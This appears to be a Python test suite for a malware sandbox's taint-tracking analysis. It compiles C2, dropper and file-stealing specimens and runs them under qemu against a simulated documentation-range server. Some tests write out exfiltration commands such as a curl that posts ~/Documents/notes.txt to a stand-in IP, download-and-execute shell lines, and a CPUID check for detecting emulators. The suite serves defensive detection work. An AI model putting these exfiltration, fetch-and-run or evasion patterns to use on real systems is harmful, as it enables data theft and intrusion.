"""Which flow commands, which one feeds, which one is fed: decided by the movement of bytes, in a cell."""
import json
import os
import shutil
import struct
import subprocess
import unittest

import analyze_test
import harness

SOURCES = harness.SOURCE / "tests/taint/specimens"
SERVER = "203.0.113.7"  # of the documentation range
PORT = 4444
COMPILERS = {"x86_64": "gcc", "i386": "i686-linux-gnu-gcc", "arm": "arm-linux-gnueabihf-gcc",
             "aarch64": "aarch64-linux-gnu-gcc", "mips": "mips-linux-gnu-gcc", "mipsel": "mipsel-linux-gnu-gcc"}
# name: source, defines, what the server answers, arguments, the flow's role
SPECIMENS = {
    "command": ("command.c", {"DISPATCH": 1, "ENCODING": 0}, "EXEC", "", "c2"),
    "dropper": ("download.c", {"INTO": 1, "ENCODING": 0}, "#!/bin/sh\\necho staged > staged\\n", "", "distribution"),
    "thief": ("steal.c", {"ENCODING": 0}, "ok", "Documents/notes.txt", "drop"),
    "connectivity": ("innocent.c", {"KIND": 4, "ENCODING": 0}, "hello", "", None),
    "kill-switch": ("innocent.c", {"KIND": 1, "ENCODING": 0}, "GO", "", None),
}


class TaintTest(analyze_test.AnalyzeTest):
    def build(self, name, target="x86_64"):
        source, defines, _, _, _ = SPECIMENS[name]
        compiler = shutil.which(COMPILERS[target])
        if not compiler:
            self.skipTest(f"no {COMPILERS[target]}")
        for emulator in ("x86_64", target):
            if not shutil.which(f"qemu-{emulator}"):
                self.skipTest("qemu-user is not installed")
        address = "0x" + "".join(f"{int(part):02x}" for part in SERVER.split("."))
        program = self.scratch / f"{name}-{target}"
        subprocess.run([compiler, "-O1", "-w", "-g", *([] if target == "x86_64" else ["-static"]), f"-DSERVER={address}",
                        *(f"-D{key}={value}" for key, value in defines.items()), SOURCES / source, "-o", program],
                       check=True)
        return program

    def follow(self, name, target="x86_64", *options):
        program = self.build(name, target)
        self.can_run()
        _, _, answer, arguments, _ = SPECIMENS[name]
        # A server that speaks first, so that one reply fits clients that ask and clients that listen.
        replies = self.write("replies.toml", f'[[tcp]]\nport = {PORT}\nsteps = [{{ send = "{answer}", close = true }}]\n')
        return self.analyze(program, "--taint", "--replies", replies, "--args", f"{PORT} {arguments}".strip(), *options)[0]

    def flow(self, run):
        flows = [flow for flow in run["flows"] if flow["remote"] == f"{SERVER}:{PORT}"]
        self.assertEqual(len(flows), 1, run["flows"])
        return flows[0]


class Roles(TaintTest):
    def check(self, name, target):
        run = self.follow(name, target)
        self.assertEqual(run["outcome"], "exited", run["outcome_detail"])
        self.assertTrue(run["emulator"].startswith("qemu-"))
        self.check_schema("run", run)
        self.assertEqual([remark for remark in run["remarks"] if "broke out" in remark or "taint" in remark], [])
        flow = self.flow(run)
        self.assertEqual(flow.get("role"), SPECIMENS[name][4], (flow, run["remarks"]))
        self.assertEqual(flow.get("process"), 0)
        getattr(self, "check_" + name.replace("-", "_"))(run, flow)
        self.assert_nothing_left()

    def check_command(self, run, flow):
        """The bytes that were compared, where, and what was done."""
        self.assertTrue(any(evidence.startswith("c2: ") and "EXEC" in evidence for evidence in flow["evidence"]), flow)
        effects = [effect["object"] for decision in flow["decisions"] for effect in decision["effects"]]
        self.assertTrue(any("/bin/true" in effect for effect in effects), flow["decisions"])
        own = [decision for decision in flow["decisions"] if decision["module"].endswith(run["sample"]["name"])]
        self.assertTrue(own, flow["decisions"])
        self.assertTrue(all(decision["offset"] > 0 and decision["offsets"] for decision in own))
        # Static functions may have been put into main.
        self.assertTrue({"obey", "main"} & {decision.get("symbol") for decision in own}, own)
        self.assertTrue(any(" in main at " in evidence or " in obey at " in evidence for evidence in flow["evidence"]), flow)

    def check_dropper(self, run, flow):
        """Received bytes, the file, its execution."""
        self.assertTrue(any(file["path"].endswith("/stage") and file["executed"] for file in flow["to_files"]), flow)
        self.assertEqual(flow["to_files"][0]["offsets"], [{"first": 0, "last": 30}])
        kinds = {behaviour["kind"] for behaviour in run["behaviours"]}
        self.assertLessEqual({"dropped_executable_run"}, kinds)

    def check_thief(self, run, flow):
        """The file and the offsets that left, and what they looked like."""
        self.assertEqual([file["path"].rsplit("/", 1)[-1] for file in flow["from_files"]], ["notes.txt"])
        self.assertEqual(flow["from_files"][0]["offsets"][0]["first"], 0)
        self.assertEqual(flow["from_files"][0]["encoding"], "text")

    def check_connectivity(self, run, flow):
        self.assertEqual(flow["evidence"], [])

    def check_kill_switch(self, run, flow):
        """Go or no-go is no command."""
        self.assertTrue(flow.get("gate"), flow)
        self.assertEqual(flow["evidence"], [])


def add_roles():
    for target in COMPILERS:
        for name in SPECIMENS:
            def test(self, name=name, target=target):
                self.check(name, target)
            test.__doc__ = f"{name} for {target}"
            setattr(Roles, f"test_{target}_{name.replace('-', '_')}", test)


add_roles()


class Consequences(TaintTest):
    def test_same_behaviours_as_without(self):
        """Emulator and plugin show in nothing that the program is said to have done."""
        program = self.build("command")
        self.can_run()
        replies = self.write("replies.toml", f'[[tcp]]\nport = {PORT}\nsteps = [{{ send = "EXEC", close = true }}]\n')
        options = ["--replies", replies, "--args", str(PORT)]
        plain, followed = (self.analyze(program, *options, *more)[0] for more in ([], ["--taint"]))
        said = [{(b["kind"], b["object"]) for b in run["behaviours"]} for run in (plain, followed)]
        self.assertEqual(said[0], said[1])
        self.assertEqual([p["argv"] for p in plain["processes"]], [p["argv"] for p in followed["processes"]])

    def test_indicators_and_report(self):
        """A proven flow is blocked by its role; the page draws it; the bundle names it."""
        program = self.build("command")
        self.can_run()
        replies = self.write("replies.toml", f'[[tcp]]\nport = {PORT}\nsteps = [{{ send = "EXEC", close = true }}]\n')
        folder = self.scratch / "out"
        # Of documentation addresses nothing is blocked but in a range.
        self.run_program("analyze", "--taint", "--time", "60s", "--replies", replies, "--args", str(PORT), "--out",
                         folder, "--depth", "0", program, env={"SHIKAKE_RANGE": "1"})
        found = json.dumps(self.run_json("intel", "lookup", f"{SERVER}:{PORT}", env={"SHIKAKE_RANGE": "1"}))
        self.assertIn('"c2"', found)
        self.assertIn("block:firewall", found)
        page = next(folder.glob("*/report.html")).read_text()
        self.assertIn("Which bytes led to what", page)
        self.assertIn("t-decision", page)
        self.assertIn("command-and-control", next(folder.glob("*/stix.json")).read_text())
        run = next(folder.glob("*/run.json")).parent
        flow = self.flow(json.loads((run / "run.json").read_text()))
        forward = self.run_json("influence", run, "--flow", flow["id"], "--bytes", "0-3")["influences"]
        self.assertTrue(any("/bin/true" in one["object"] and one["how"] == "decided" for one in forward), forward)
        back = self.run_json("influence", run, "--on", "/bin/true")["influences"]
        self.assertTrue(any(one["flow"] == flow["id"] for one in back), back)
        self.assertEqual(self.run_json("influence", run, "--on", "no such thing"), {"influences": []})

    def test_what_had_a_part_in_a_packet(self):
        """A packet with an echo of the server's word and a stolen file: where each came from, and where the file went."""
        if not shutil.which("qemu-x86_64"):
            self.skipTest("qemu-user is not installed")
        source, program = self.scratch / "mixer.c", self.scratch / "mixer"
        source.write_text(f"""
            #define SERVER 0xcb007107
            #define ENCODING 0
            #include "{SOURCES}/client.h"
            int main(int count, char** argument) {{
              char word[64] = "", packet[256] = "got ";
              const int s = dial({PORT});
              if (recv(s, word, sizeof word - 1, 0) <= 0) return 1;
              strncat(packet, word, 8);
              const int f = open(argument[1], O_RDONLY);
              const long n = read(f, packet + 12, 200);
              if (n <= 0 || send(s, "hello", 5, 0) < 0 || send(s, packet, (size_t)(12 + n), 0) < 0) return 1;
              take(s, word, sizeof word);
              return 0;
            }}""")
        subprocess.run(["gcc", "-O1", "-w", source, "-o", program], check=True)
        self.can_run()
        replies = self.write("replies.toml", f'[[tcp]]\nport = {PORT}\nsteps = [{{ send = "ABCDEFGH" }}, {{ expect = "hello", send = "bye", close = true }}]\n')
        folder = self.scratch / "out"
        flow = self.flow(self.analyze(program, "--taint", "--replies", replies, "--args", "Documents/notes.txt", "--out", folder)[0])
        self.assertEqual(flow.get("role"), "drop")
        run = next(folder.glob("*/run.json")).parent

        def ask(*question):
            return [one for one in self.run_json("influence", run, *question)["influences"] if one["how"] == "content"]

        # The stream that went out: hello, "got ", eight received bytes, the file.
        echo, loot = 5 + 4, 5 + 12
        told = ask("--on-flow", flow["id"], "--bytes", f"{echo}-{echo + 7}")
        self.assertEqual([(one.get("flow"), one["bytes"], one["to_bytes"]) for one in told],
                         [(flow["id"], [{"first": 0, "last": 7}], [{"first": echo, "last": echo + 7}])])
        stolen = ask("--on-flow", flow["id"], "--bytes", f"{loot}-{loot + 15}")
        self.assertEqual([(one["file"].rsplit("/", 1)[-1], one["bytes"][0]["first"]) for one in stolen], [("notes.txt", 0)])
        self.assertEqual({tuple(sorted(one)) for one in stolen}, {tuple(sorted(set(stolen[0]) - {"flow"}))})
        self.assertEqual(ask("--on-flow", flow["id"], "--bytes", "0-8"), [])
        # By what it says, and by whom it went to.
        self.assertEqual(ask("--on", "ABCDEFGH"), told)
        self.assertEqual({one.get("file") or one["flow"] for one in ask("--on", f"{SERVER}:{PORT}")},
                         {flow["id"], stolen[0]["file"]})
        # The other way.
        self.assertEqual([one["to_flow"] for one in ask("--flow", flow["id"], "--bytes", "2-3")], [flow["id"]])
        for path in (stolen[0]["file"], "~/Documents/notes.txt"):
            went = ask("--file", path, "--bytes", "3-4")
            self.assertEqual([(one["to_flow"], one["to_bytes"][0]["first"]) for one in went], [(flow["id"], loot)])
        self.assertEqual(ask("--file", "/etc/shadow"), [])
        shown = self.run_program("influence", run, "--file", "~/Documents/notes.txt").stdout.decode()
        self.assertIn(f"content  send {SERVER}:{PORT}  on flow {flow['id']}  bytes {loot}-", shown)
        self.run_program("influence", run, "--file", "x", "--on", "y", status=2)
        self.run_program("influence", run, "--on-flow", "1", "--bytes", "9-3", status=2)
        for nobody in (flow["id"] + (1 << 32), 77):
            failed = self.run_program("influence", run, "--flow", str(nobody), status=2)
            self.assertIn(f"this run has no flow {nobody}".encode(), failed.stderr)

    def test_a_chosen_file_is_followed_too(self):
        """A file that no thief looks for, until somebody says that it matters."""
        program = self.build("thief")
        self.can_run()
        replies = self.write("replies.toml", f'[[tcp]]\nport = {PORT}\nsteps = [{{ send = "ok", close = true }}]\n')
        options = ["--taint", "--replies", replies, "--args", f"{PORT} /etc/hosts"]
        plain, chosen = (self.flow(self.analyze(program, *options, *more)[0]) for more in ([], ["--label-file", "/etc/hosts"]))
        self.assertIsNone(plain.get("role"))
        self.assertEqual(chosen.get("role"), "drop")
        self.assertEqual([file["path"] for file in chosen["from_files"]], ["/etc/hosts"])

    def test_table_look_ups_are_a_choice(self):
        """What a table gives for received bytes is theirs, unless that is not wanted; the report says which."""
        source = self.scratch / "table.c"
        source.write_text(f"""
            #define SERVER 0xcb007107
            #define ENCODING 9
            #include "{SOURCES}/client.h"
            int main(int count, char** argument) {{
              static char data[4096];
              const long got = ask(atoi(argument[1]), "hello", data, sizeof data);
              if (got > 0 && decode(data, got) > 0) run_program("/bin/echo", data);
              return 0;
            }}""")
        program = self.scratch / "table"
        subprocess.run(["gcc", "-O1", "-w", source, "-o", program], check=True)
        self.can_run()
        if not shutil.which("qemu-x86_64"):
            self.skipTest("qemu-user is not installed")
        replies = self.write("replies.toml", f'[[tcp]]\nport = {PORT}\nsteps = [{{ send = "ZnJvbSBhZmFy", close = true }}]\n')
        options = ["--taint", "--replies", replies, "--args", str(PORT)]
        for more, role, said in (([], "c2", "through look-ups in tables too"),
                                 (["--no-taint-tables"], None, "but not through look-ups in tables")):
            with self.subTest(more):
                folder = self.scratch / f"out{len(more)}"
                run = self.analyze(program, *options, *more, "--out", folder)[0]
                self.check_schema("run", run)
                self.assertEqual(self.flow(run).get("role"), role)
                self.assertIs(run["taint_tables"], not more)
                self.assertTrue(any("from afar" in " ".join(p["argv"]) for p in run["processes"]))
                page = next(folder.glob("*/report.html")).read_text()
                self.assertIs("but not through look-ups in tables" in page, bool(more))
                shown = self.run_program("analyze", "--no-store", *options, *more, program).stdout.decode()
                self.assertIn(said, shown)
        self.run_program("analyze", "--no-taint-tables", program, status=2)

    def test_without_emulator_the_run_is_done_without(self):
        program = self.build("connectivity")
        self.can_run()
        replies = self.write("replies.toml", f'[[tcp]]\nport = {PORT}\nsteps = [{{ send = "x", close = true }}]\n')
        run = self.analyze(program, "--taint", "--replies", replies, "--args", str(PORT), env={"PATH": "/nonexistent"})[0]
        self.assertEqual(run["outcome"], "exited")
        self.assertTrue(any("package qemu-user" in remark for remark in run["remarks"]), run["remarks"])
        self.assertNotIn("emulator", run)


class Clients(TaintTest):
    """Real clients, which know their servers by name, as scripts use them."""

    REPLIES = """
        [[http]]
        host = "files.example"
        path = "/program"
        body = "#!/bin/sh\\necho staged > /tmp/staged\\n"
        [[http]]
        host = "files.example"
        path = "/archive"
        file = "archive.tar"
        [[http]]
        host = "*"
        body = "fine"
    """

    def script(self, *needed, lines):
        for tool in (*needed, "qemu-x86_64"):
            if not shutil.which(tool):
                self.skipTest(f"no {tool}")
        program = self.write("client.sh", "#!/bin/sh\n" + lines + "\n")
        self.can_run()
        (self.scratch / "archive.tar").touch()
        run = self.analyze(program, "--taint", "--replies", self.write("replies.toml", self.REPLIES))[0]
        self.assertEqual(run["outcome"], "exited", run["outcome_detail"])
        return run

    def roles(self, run):
        known = lambda flow: flow.get("host") if flow.get("host", "").endswith(".example") else flow["protocol"]
        return {known(flow): flow["role"] for flow in run["flows"] if flow.get("role")}

    def said(self, run):
        return [(flow["remote"], flow["evidence"]) for flow in run["flows"]]

    def test_a_page_that_is_fetched_convicts_nobody(self):
        for tool, line in (("curl", "curl -s -o /tmp/page http://pages.example/"),
                           ("wget", "wget -q -O /tmp/page http://pages.example/")):
            with self.subTest(tool):
                run = self.script(tool, lines=line)
                self.assertEqual(self.roles(run), {}, self.said(run))
                flow = next(flow for flow in run["flows"] if flow.get("host") == "pages.example")
                self.assertEqual([(file["path"], file["executed"]) for file in flow["to_files"]], [("/tmp/page", False)])

    def test_a_file_that_is_run_came_from_its_server_and_not_from_who_knew_the_name(self):
        for tool, line in (("curl", "curl -s -o /tmp/program http://files.example/program"),
                           ("wget", "wget -q -O /tmp/program http://files.example/program")):
            with self.subTest(tool):
                run = self.script(tool, lines=line + "\nchmod +x /tmp/program\n/tmp/program")
                self.assertTrue(any(file["path"] == "/tmp/staged" for file in run["files"]), run["files"])
                self.assertEqual(self.roles(run), {"files.example": "distribution"}, self.said(run))

    def test_an_archive_that_is_unpacked_is_no_command(self):
        inside = self.scratch / "app"
        (inside / "empty").mkdir(parents=True)
        (inside / "conf").mkdir()
        (inside / "readme").write_text("read me")
        (inside / "conf/x").write_text("x = 1")
        subprocess.run(["tar", "cf", self.scratch / "archive.tar", "-C", self.scratch, "app"], check=True)
        run = self.script("curl", "tar", lines="cd /tmp\ncurl -s -o archive.tar http://files.example/archive\ntar xf archive.tar\nls app/empty")
        self.assertTrue(any(file["path"] == "/tmp/app/conf/x" for file in run["files"]), run["files"])
        self.assertEqual(self.roles(run), {}, self.said(run))

    def test_what_the_run_made_itself_is_no_loot(self):
        run = self.script("curl", lines="mkdir -p ~/.config/google-chrome\necho client-7731 > ~/.config/google-chrome/id\n"
                          "curl -s -d @$HOME/.config/google-chrome/id http://telemetry.example/\n"
                          "curl -s -d @$HOME/Documents/notes.txt http://203.0.113.9/")
        self.assertEqual(self.roles(run), {"http": "drop"}, self.said(run))

    def test_a_name_server_that_says_what_to_run_commands(self):
        """Its answer is a client's of names; here it reaches the arguments of a program that is run."""
        source, program = self.scratch / "resolver.c", self.scratch / "resolver"
        source.write_text(f"""
            #define SERVER 0xcb007107
            #define ENCODING 0
            #include "{SOURCES}/client.h"
            int main(void) {{
              static const char question[] =
                  "\\x53\\x49\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\003cmd\\007example\\0\\0\\x10\\0\\x01";
              const int s = dial({PORT});
              static char answer[512];
              if (send(s, question, sizeof question - 1, 0) < 0) return 1;
              const long n = recv(s, answer, sizeof answer - 1, 0);
              if (n > 0) run_program("/bin/echo", answer);
              return 0;
            }}""")
        subprocess.run(["gcc", "-O1", "-w", source, "-o", program], check=True)
        if not shutil.which("qemu-x86_64"):
            self.skipTest("no qemu-x86_64")
        self.can_run()
        replies = self.write("replies.toml", f'[[tcp]]\nport = {PORT}\nsteps = [{{ send = "go and see", close = true }}]\n')
        run = self.analyze(program, "--taint", "--replies", replies)[0]
        self.assertTrue(any("go and see" in process["argv"] for process in run["processes"]), run["processes"])
        self.assertEqual(self.flow(run).get("role"), "c2", self.said(run))


# Which processor does it say that it is? "QEMU TCG CPU" is what an emulated one calls itself.
PROCESSOR = """
#include <cpuid.h>
#include <string.h>
static int emulated(void) {
  unsigned name[13] = {0};
  for (unsigned i = 0; i < 3; ++i)
    __get_cpuid(0x80000002 + i, &name[4 * i], &name[4 * i + 1], &name[4 * i + 2], &name[4 * i + 3]);
  return strstr((const char*)name, "QEMU TCG") != 0;
}
"""
# The C library of another instruction set has its own ideas of where its parts lie: i386's are static here.
NARROW = "i686-linux-gnu-gcc"


class Compiled(TaintTest):
    """Programs that a test writes itself."""

    def compile(self, name, text, compiler="gcc", *options):
        if not shutil.which(compiler):
            self.skipTest(f"no {compiler}")
        if not shutil.which("qemu-x86_64"):
            self.skipTest("qemu-user is not installed")
        source, program = self.write(f"{name}.c", text), self.scratch / name
        subprocess.run([compiler, "-O1", "-w", *options, f"-I{SOURCES}", source, "-o", program], check=True)
        return program

    def replies(self, answer="x"):
        return self.write("replies.toml", f'[[tcp]]\nport = {PORT}\nsteps = [{{ send = "{answer}", close = true }}]\n')

    def without_emulated_processor(self):
        with open("/proc/cpuinfo") as file:
            if "QEMU TCG" in file.read():
                self.skipTest("this machine's own processor is an emulated one")

    def said(self, run, text):
        self.assertTrue(any(text in remark for remark in run["remarks"]), run["remarks"])


class Doubts(Compiled):
    """What taint could not follow is said, and the run is there all the same."""

    def test_a_fault_in_an_emulator_alone(self):
        """It faults where it sees the emulator: the run without taint is the one that is shown, and that is said."""
        program = self.compile("shy", PROCESSOR + """
            int main(void) { if (emulated()) __builtin_trap(); return 3; }""")
        self.can_run()
        self.without_emulated_processor()
        run = self.analyze(program, "--taint")[0]
        self.assertEqual((run["outcome"], run["processes"][0]["how_ended"]), ("exited", "exited 3"))
        self.assertNotIn("emulator", run)
        self.said(run, "was killed by SIGILL, without an emulator none is")
        self.check_schema("run", run)

    def test_a_fault_everywhere_is_the_programs_own(self):
        program = self.compile("broken", "int main(void) { __builtin_trap(); }")
        self.can_run()
        run = self.analyze(program, "--taint")[0]
        self.assertEqual(run["outcome"], "killed")
        self.assertEqual(run["emulator"], "qemu-x86_64")
        self.assertFalse([remark for remark in run["remarks"] if "emulator" in remark])

    def test_nothing_done_in_an_emulator_alone(self):
        """It stays quiet where it sees the emulator."""
        program = self.compile("quiet", PROCESSOR + f"""
            #define SERVER 0xcb007107
            #include "client.h"
            int main(void) {{ if (!emulated()) dial({PORT}); return 0; }}""")
        self.can_run()
        self.without_emulated_processor()
        run = self.analyze(program, "--taint", "--replies", self.replies())[0]
        self.assertEqual(self.flow(run)["remote"], f"{SERVER}:{PORT}")
        self.assertNotIn("emulator", run)
        self.said(run, "under taint it did nothing, without an emulator it does something")

    def test_an_instruction_without_a_rule(self):
        """EXTRQ of SSE4A: the emulator has it, no rule does."""
        program = self.compile("without_rule", f"""
            #define SERVER 0xcb007107
            #include "client.h"
            int main(void) {{
              char got[16] = "";
              const int s = dial({PORT});
              take(s, got, sizeof got);
              __asm__ volatile("movd %0, %%xmm0; movd %0, %%xmm1; .byte 0x66, 0x0f, 0x79, 0xc1" :: "r"((int)got[0])
                               : "xmm0", "xmm1");
              return 0;
            }}""")
        self.can_run()
        folder = self.scratch / "out"
        options = ["--taint", "--replies", self.replies(), "--out", folder]
        run = self.analyze(program, *options)[0]
        self.assertEqual([row["bytes"] for row in run["unsupported_instructions"]], ["660f79c1"])
        self.assertIn("1 instructions have no rule", next(folder.glob("*/report.html")).read_text())
        shown = self.run_program("analyze", "--no-store", "--taint", "--replies", self.replies(), program).stdout.decode()
        self.assertRegex(shown, r"without rule +1 kinds of instruction")

    def test_instructions_whose_emulator_is_missing(self):
        """A machine with the emulator of its own instructions alone still runs a program of the other ones."""
        program = self.compile("narrow", "int main(void) { return 4; }", NARROW, "-static")
        self.can_run()
        (self.scratch / "bin").mkdir()
        (self.scratch / "bin/qemu-x86_64").symlink_to(shutil.which("qemu-x86_64"))
        run = self.analyze(program, "--taint", env={"PATH": str(self.scratch / "bin")})[0]
        self.assertEqual(run["processes"][0]["how_ended"], "exited 4")
        self.assertNotIn("emulator", run)
        self.said(run, "taint was not followed: qemu-i386 is missing (Debian's package qemu-user has it)")

    def test_instructions_that_no_rule_knows(self):
        """A program for RISC-V runs in its emulator, without taint, and that is said; where the emulator is missing, which
        package has it."""
        code = struct.pack("<3I", 0x05D00893, 0x00400513, 0x00000073)  # li a7, 93; li a0, 4; ecall: exit(4)
        start, base, head = 0x78, 0x10000, 0x40
        elf = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 243, 1, base + start, head, 0, 0, 64, 56, 1, 0, 0, 0)
        elf += struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, start + len(code), start + len(code), 0x1000) + code
        program = self.scratch / "riscv"
        program.write_bytes(elf)
        program.chmod(0o755)
        self.can_run()
        if not shutil.which("qemu-riscv64") or not shutil.which("qemu-x86_64"):
            self.skipTest("qemu-user is not installed")
        run = self.analyze(program, "--taint")[0]
        self.assertEqual((run["outcome"], run["emulator"]), ("exited", "qemu-riscv64"), run["outcome_detail"])
        self.assertEqual(run["processes"][0]["how_ended"], "exited 4")
        self.said(run, "taint was not followed: it has no rules for the instructions of riscv64")
        self.assertNotIn("taint_tables", run)
        missing = self.analyze(program, "--taint", env={"PATH": "/nonexistent"})[0]
        self.assertEqual(missing["outcome"], "refused")
        self.assertIn("qemu-riscv64 runs such here, and is missing (Debian's package qemu-user has it)", missing["outcome_detail"])

    def test_a_start_that_no_emulator_can_take(self):
        """An argument list beyond what can be rewritten goes to the kernel as it is."""
        program = self.write("many", '#!/bin/sh\nset -- $(seq 3000)\nexec /bin/echo "$@" > many.txt\n')
        self.can_run()
        if not shutil.which("qemu-x86_64"):
            self.skipTest("qemu-user is not installed")
        run = self.analyze(program, "--taint")[0]
        self.assertEqual(run["outcome"], "exited", run["outcome_detail"])
        self.said(run, "/echo ran outside of the emulators: what it did with received bytes was not followed")


class OtherLibraries(TaintTest):
    def test_i386_with_its_own_libraries(self):
        """A dynamic program of the narrow instruction set finds its C library in the emulator, and a processor whose
        instructions all have rules."""
        if not os.path.isdir("/usr/i686-linux-gnu/lib"):
            self.skipTest("no C library for i386 (Debian's libc6-i386-cross)")
        source, defines, answer, _, role = SPECIMENS["command"]
        self.build("command", "i386")  # or skips
        program = self.scratch / "dynamic"
        subprocess.run([NARROW, "-O1", "-w", "-g", "-DSERVER=0xcb007107",
                        *(f"-D{key}={value}" for key, value in defines.items()), SOURCES / source, "-o", program],
                       check=True)
        self.can_run()
        replies = self.write("replies.toml", f'[[tcp]]\nport = {PORT}\nsteps = [{{ send = "{answer}", close = true }}]\n')
        run = self.analyze(program, "--taint", "--replies", replies, "--args", str(PORT))[0]
        self.assertEqual((run["outcome"], run["emulator"]), ("exited", "qemu-i386"), run["outcome_detail"])
        self.assertEqual(self.flow(run).get("role"), role, (run["flows"], run["remarks"]))
        self.assertFalse(run.get("unsupported_instructions"))


if __name__ == "__main__":
    unittest.main()
